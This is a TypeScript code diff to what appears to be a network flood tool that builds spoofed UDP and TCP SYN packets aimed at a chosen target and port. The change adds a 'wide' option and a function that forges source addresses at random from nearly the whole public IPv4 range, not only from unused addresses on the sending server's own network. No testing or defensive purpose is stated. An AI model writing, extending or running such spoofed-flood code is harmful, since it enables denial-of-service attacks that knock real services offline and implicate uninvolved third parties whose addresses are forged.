@@ -45,6 +45,8 @@ export interface FloodPlan {
   readonly seconds: number;
   /** Ends before that after so many packets. */
   readonly most?: number;
+  /** What is spoofed comes from anywhere, and not from the server's network only. */
+  readonly wide?: boolean;
   readonly from: string;
   readonly to: string;
   readonly port: number;
@@ -91,7 +93,7 @@ function base64Junk(): Uint8Array {
 }
 
 /** An IPv4 packet from an address of the server's network that is nobody's. UDP without a checksum, which it may have. */
-function spoofedUdp({ to, port }: FloodPlan, size: number, payload: Fill): Kind {
+function spoofedUdp({ to, port, wide }: FloodPlan, size: number, payload: Fill): Kind {
   const target = parseAddress(to)?.subarray(12) ?? new Uint8Array(4);
   return {
     size: IP + UDP + size,
@@ -99,7 +101,7 @@ function spoofedUdp({ to, port }: FloodPlan, size: number, payload: Fill): Kind 
     fresh: true,
     fill(into) {
       const view = new DataView(into.buffer, into.byteOffset);
-      ipHeader(into, target, 17);
+      ipHeader(into, target, 17, wide === true ? anywhere() : undefined);
       view.setUint16(IP, 40_000);
       view.setUint16(IP + 2, port);
       view.setUint16(IP + 4, UDP + size);
@@ -120,18 +122,25 @@ function ipHeader(into: Uint8Array, target: Uint8Array, protocol: number, source
   into.set(target, 16);
 }
 
-function syns({ to, from, ports, kind }: FloodPlan): Kind {
+/** An address of somebody's, in 1.0.0.0 to 223.255.255.255. */
+function anywhere(): Uint8Array {
+  const address = new Uint8Array(4);
+  new DataView(address.buffer).setUint32(0, randomInt(0x0100_0000, 0xe000_0000));
+  return address;
+}
+
+function syns({ to, from, ports, kind, wide }: FloodPlan): Kind {
   const target = parseAddress(to)?.subarray(12) ?? new Uint8Array(4);
   const one = kind === 'syn' ? parseAddress(from)?.subarray(12) : undefined;
   return {
     size: IP + TCP,
     raw: true,
-    fresh: false,
+    fresh: wide === true,
     fill(into) {
       const frame = new Uint8Array(ETHERNET + IP + TCP);
       const view = new DataView(frame.buffer, ETHERNET);
       new DataView(frame.buffer).setUint16(12, 0x0800);
-      ipHeader(frame.subarray(ETHERNET), target, 6, one);
+      ipHeader(frame.subarray(ETHERNET), target, 6, wide === true ? anywhere() : one);
       view.setUint16(IP, randomInt(20_000, 60_000));
       view.setUint16(IP + 2, ports[randomInt(ports.length)] ?? 0);
       view.setUint32(IP + 4, 1);
